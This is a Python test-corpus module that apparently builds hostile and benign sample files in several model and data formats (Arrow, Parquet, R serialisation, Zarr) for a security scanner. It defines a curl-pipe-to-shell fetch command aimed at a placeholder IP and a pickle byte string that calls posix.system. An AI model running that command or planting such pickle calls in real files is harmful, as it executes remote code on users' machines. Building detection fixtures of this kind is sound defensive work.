"""What the samples of further formats are made with."""

import gzip
import json
import struct

from tests.corpus.gguf_writer import Writer
from tests.corpus.labelled import Content, benign, hostile
from tests.corpus.safetensors_samples import PLAIN, file
from tests.corpus.sample import Sample

FAMILY = "further formats"
WEIGHTS = file(PLAIN, bytes(16))
CALL = b"cposix\nsystem\n(S'echo inert'\ntR."
FETCH = "curl -s http://203.0.113.9/i.sh | sh"
W = Writer()


def evil(name: str, files: dict[str, Content], note: str, source: str = "") -> Sample:
    """One subject."""
    return hostile("further-" + name, FAMILY, files, note, source)


def good(name: str, files: dict[str, Content], note: str) -> Sample:
    """What resembles it."""
    return benign("further-" + name, FAMILY, files, note)


def as_json(content: object) -> str:
    """JSON."""
    return json.dumps(content, indent=1)


def arrow(metadata: dict[str, bytes]) -> bytes:
    """The beginning of an Arrow file with keys and values in its schema, as far as text shows."""
    text = b"".join(
        struct.pack("<I", len(k)) + k.encode() + b"\0" + struct.pack("<I", len(v)) + v for k, v in metadata.items()
    )
    return (
        b"ARROW1\0\0"
        + b"\xff\xff\xff\xff"
        + struct.pack("<I", len(text) + 16)
        + bytes(16)
        + text
        + bytes(16)
        + b"ARROW1"
    )


def parquet(metadata: bytes) -> bytes:
    """A Parquet file as far as its footer."""
    return b"PAR1" + bytes(32) + metadata + struct.pack("<I", len(metadata)) + b"PAR1"


def rds(symbol: str) -> bytes:
    """An R serialisation, binary XDR, of a call."""
    name = symbol.encode()
    body = b"X\n" + struct.pack(">iii", 3, 0x040300, 0x030500) + struct.pack(">i", 5) + b"UTF-8"
    return gzip.compress(
        body + struct.pack(">i", 6) + struct.pack(">ii", 1, 0x40009) + struct.pack(">i", len(name)) + name, mtime=0
    )


ZARRAY = {
    "zarr_format": 2,
    "shape": [1],
    "chunks": [1],
    "dtype": "|O",
    "fill_value": None,
    "order": "C",
    "compressor": None,
}
